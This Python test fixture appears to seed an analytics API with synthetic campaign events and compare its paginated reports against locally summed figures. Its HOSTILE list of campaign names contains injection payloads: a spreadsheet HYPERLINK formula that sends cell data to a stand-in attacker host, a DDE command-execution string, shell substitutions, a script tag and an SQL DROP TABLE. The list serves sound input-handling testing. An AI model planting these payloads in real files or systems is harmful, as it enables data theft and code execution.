"""The two sites that the recipes are run on: what is sent to them, and what it adds up to."""

import json
import os
import time
import urllib.request
from collections import defaultdict
from datetime import date, timedelta
from decimal import Decimal

URL = os.environ["RECKON_URL"]
OPERATOR = os.environ["RECKON_OPERATOR_KEY"]
FIRST, LAST = date(2026, 6, 1), date(2026, 6, 30)
PERIOD = f"from={FIRST}&to={LAST}"

# Source, medium, campaign, the channel that follows, and what a day brings: impressions, clicks, sales, cents.
CAMPAIGNS = [
    ("google", "cpc", "spring", "paid_search", 4000, 120, 3, 2490),
    ("google", "cpc", "brand", "paid_search", 900, 95, 2, 1835),
    ("facebook", "paid_social", "summer", "paid_social", 12000, 140, 2, 2999),
    ("newsletter", "email", "weekly", "email", 0, 60, 2, 4215),
]

# What spreadsheets, CSV readers and guesses at types trip over, as names of campaigns.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "+49 30 1234", "@SUM(A1:A9)", "-2+3", "-", "=1+1",
    "=cmd|' /C calc'!A0", "\uff1dSUM(1)", 'say "hi"', '"', '""', "'quoted'", "'=1", "a,b,c", "a;b;=1+1", "comma, \"quote\"",
    "line\u2028separator", "paragraph\u2029separator", "Größe & Übermaß für Äpfel", "Łódź – ça coûte 5 €", "春の販売",
    "\U0001f680\U0001f469\u200d\U0001f4bb launch", "\u202eright to left", "  blanks around  ", "NA", "nan", "null", "None",
    "NULL", "N/A", "", "true", "FALSE", "00123", "1e5", "1.5", "1,5", "1/2", "3-4", "2026-06-01", "12:30", "0x1F", "Infinity",
    "back\\slash\\n", "tab\\tstop", "{\"json\": [1]}", "[1, 2]", "<script>alert(1)</script>", "$RECKON_KEY", "`id`", "$(id)",
    "%0A%0D", "; DROP TABLE days; --", "x" * 128,
]


class Site:
    """A site: its keys, the events that were sent to it, and its figures as exact decimals."""

    def __init__(self, name):
        self.name = name
        site = call("POST", "/v1/sites", OPERATOR, {
            "id": name, "name": name, "time_zone": "Europe/Berlin", "currency": "EUR", "origins": []})
        self.admin = site["key"]["secret"]
        self.read, self.write = (
            call("POST", "/v1/keys", self.admin, {"role": role, "name": role})["secret"] for role in ("read", "write"))
        self.events = []
        self.sums = defaultdict(lambda: defaultdict(Decimal))

    def add(self, time, kind, origin, channel, count=1, cents=None):
        utm = {name: text for name, text in zip(("source", "medium", "campaign"), origin) if text}
        event = {"id": f"e{len(self.events)}", "kind": kind, "occurred_at": time, "utm": utm, "channel": channel}
        sums, value = self.sums[origin[2]], Decimal(cents or 0) / 100
        if kind == "spend":
            sums["spend"] += value
        else:
            sums[f"{kind}s"] += count
            sums["revenue"] += {"sale": value, "refund": -value}.get(kind, 0)
        if count != 1:
            event["count"] = count
        if cents is not None:
            event["value"] = str(value)
        self.events.append(event)

    def send(self):
        """Sends the events in the order of time, and waits until they are counted."""
        events = sorted(self.events, key=lambda event: event["occurred_at"])
        for start in range(0, len(events), 1000):
            answer = call("POST", "/v1/events", self.write, events[start:start + 1000])
            assert not answer["rejected"], answer["rejected"][:3]
        until = time.monotonic() + 120
        while self.report("summary")["metrics"]["sales"] != sum(sums["sales"] for sums in self.sums.values()):
            assert time.monotonic() < until, "the events are not counted after two minutes"
            time.sleep(0.2)
        return self

    def report(self, path, query=""):
        """A report as nested JSON, its numbers exact, all of its pages."""
        answer = call("GET", f"/v1/reports/{path}?{PERIOD}&{query}".rstrip("&"), self.read)
        rows, cursor = answer.get("rows"), answer.get("next")
        while cursor:
            page = call("GET", f"/v1/reports/{path}?{PERIOD}&{query}&cursor={cursor}", self.read)
            rows += page["rows"]
            cursor = page["next"]
        return answer

    def figures(self, dimension, *metrics):
        """Metrics by a dimension, of all pages of the nested JSON."""
        rows = self.report("breakdown", f"by={dimension}&limit=1000")["rows"]
        return {row[dimension]: tuple(row["metrics"][metric] for metric in metrics) for row in rows}

    def sent(self, *metrics):
        """Metrics by campaign, added up from what was sent."""
        return {campaign: tuple(sums[metric] for metric in metrics) for campaign, sums in self.sums.items()}


def call(method, path, key, body=None):
    request = urllib.request.Request(URL + path, method=method, headers={"Authorization": f"Bearer {key}"})
    if body is not None:
        request.data = json.dumps(body).encode()
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request) as answer:
            return json.loads(answer.read(), parse_float=Decimal, parse_int=Decimal)
    except urllib.error.HTTPError as error:
        raise AssertionError(f"{method} {path}: {error.code} {error.read().decode()}") from error


def days():
    return [FIRST + timedelta(number) for number in range((LAST - FIRST).days + 1)]


def shop():
    """A shop with four campaigns, spend by day, and sales that follow from their place alone."""
    site = Site("shop")
    for at, day in enumerate(days()):
        for number, (source, medium, campaign, channel, impressions, clicks, sales, cents) in enumerate(CAMPAIGNS):
            origin, turn = (source, medium, campaign), (at * 7 + number * 3) % 5
            time = f"{day}T10:00:00Z"
            if impressions:
                site.add(time, "impression", origin, channel, impressions + 37 * turn)
            site.add(time, "click", origin, channel, clicks + turn)
            site.add(time, "spend", origin, channel, cents=cents + 311 * turn)
            for _ in range(sales if turn else sales + 1):
                site.add(time, "sale", origin, channel, cents=cents + 1001 * turn + 5)
            if at % 10 == 9:
                site.add(time, "refund", origin, channel, cents=cents)
    return site.send()


def bazaar():
    """One day with more campaigns than a page holds, hostile ones among them."""
    site = Site("bazaar")
    for number, name in enumerate(HOSTILE + [f"c{number:04}" for number in range(2345)]):
        origin, time = ("partner", "affiliate", name), f"{FIRST}T{number % 20:02}:30:00Z"
        site.add(time, "click", origin, "affiliate", 1 + number % 7)
        site.add(time, "spend", origin, "affiliate", cents=10 + number % 90)
        site.add(time, "sale", origin, "affiliate", cents=100 + (number * 7919) % 100000)
    return site.send()
